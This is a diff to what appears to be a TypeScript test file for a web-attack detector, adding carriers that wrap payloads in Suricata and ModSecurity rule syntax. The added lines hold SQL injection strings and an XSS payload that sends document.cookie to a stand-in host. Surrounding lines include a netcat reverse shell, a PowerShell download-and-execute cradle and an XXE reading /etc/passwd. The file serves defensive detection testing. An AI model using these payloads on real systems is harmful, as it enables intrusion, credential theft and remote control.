@@ -27,6 +27,9 @@ const CARRIERS: Record<string, Carrier> = {
   'rmm task': json('rmm.example.com', '/api/v2/scheduled-tasks', (v) => ({ name: 'Nightly DB backup', schedule: { type: 'daily', at: '02:00' }, action: { type: 'powershell', command: v }, runAs: 'SYSTEM' })),
   'cronicle event': json('cronicle.example.net', '/api/app/create_event/v1', (v) => ({ title: 'Nightly export', enabled: 1, plugin: 'shellplug', params: { script: v }, timing: { hours: [3], minutes: [15] } })),
   'fail2ban filter': (v) => ({ method: 'POST', path: '/filesystem/write', query: 'path=%2Fetc%2Ffail2ban%2Ffilter.d%2Fweb-scan.conf', headers: { Host: '10.0.4.12:9090', 'Content-Type': 'text/plain;charset=UTF-8' }, body: v }),
+  // The same rule text sent to an ordinary route: there it wraps a payload (detection-rules.ts isRuleEditorPath).
+  'search rule text': form('shop.example.com', '/search', (v) => [['q', `alert http any any -> any any (msg:"x"; content:"${v}"; sid:1000001; rev:1;)`]]),
+  'comment rule text': json('shop.example.com', '/api/comments', (v) => ({ body: `SecRule ARGS "@rx a" "id:1,phase:2,deny,msg:'${v}'"` })),
   'sigma rule': json('siem.example.com', '/api/v1/rules/sigma', (v) => ({ format: 'sigma', enabled: true, rule: v })),
   'yara rules': json('10.0.0.30', '/api/yara/rules', (v) => ({ data: { type: 'hunting_ruleset', attributes: { name: 'webshells-1', enabled: true, rules: v } } })),
   'wazuh rule file': (v) => ({ method: 'PUT', path: '/rules/files/local_rules.xml', query: 'overwrite=true', headers: { Host: '10.0.0.20:55000', 'Content-Type': 'application/octet-stream' }, body: v }),
@@ -99,6 +102,11 @@ const ATTACKS: [string, string][] = [
   ['cronicle event', '#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f\n'],
   ['rmm task', 'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
   ['rmm task', "powershell.exe -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\""],
+  // A payload wrapped in a rule's syntax off a rule editor's route (session 32: these passed to /search).
+  ['search rule text', "' OR 1=1 -- "],
+  ['search rule text', "1' UNION SELECT username,password FROM users-- "],
+  ['search rule text', "<script>fetch('//evil.example/?c='+document.cookie)</script>"],
+  ['comment rule text', "x' UNION SELECT password FROM users--"],
   // A rule text with something beside its rules, and what runs in a rule format.
   ['suricata rules', 'alert http any any -> any any (msg:"x"; content:"a"; sid:1;)\n\' UNION SELECT username, password FROM users--'],
   ['wazuh rule file', '<?xml version="1.0"?>\n<!DOCTYPE group [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<group name="web,">\n  <rule id="100210" level="10">\n    <url>&xxe;</url>\n  </rule>\n</group>\n'],
